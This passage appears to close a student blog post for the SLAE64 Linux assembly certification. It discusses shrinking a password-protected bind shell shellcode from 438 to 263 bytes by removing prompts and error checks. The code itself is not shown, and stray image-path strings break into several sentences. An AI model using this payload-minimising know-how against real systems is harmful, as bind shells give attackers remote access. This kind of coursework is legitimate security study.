Running the shellcode in Vivek’s shellcode stub, we get the same output and functionality as the Nasm generated binary.

Trimming things down

At 438 bytes this code is a little on the large side. This is mainly due to the bells and whistles of prompts, error checking and clean exits. If we strip away all the messaging and error checking, leaving just the core functionality, we can get the shellcode down toa more respectable 263 bytes.


The lean version of the code also uses a numeric match for the password check rather than a byte-by-byte comparison. This is less flexible, but makes for smaller code.

Running this code in the shellcode stub has the same bind shell functionality, but there are no prompts or warnings. A reasonable payload would be somewhere between the two depending on space constraints.

This concludes the first assignment of the SLAE64course assessments. If you’ve made it this far, I hope you gained as muchfrom it as I did from writing it. Stay tuned for the nextinstalment!

This blog post has been created for completing the requirements of the SecurityTube Linux Assembly Expert certification:

Student ID: SLAE64-1471

Categories: SLAE64Assembler Shellcode

Site powered by Hugo.
Polymer theme by pdevty, tweaked by Codehead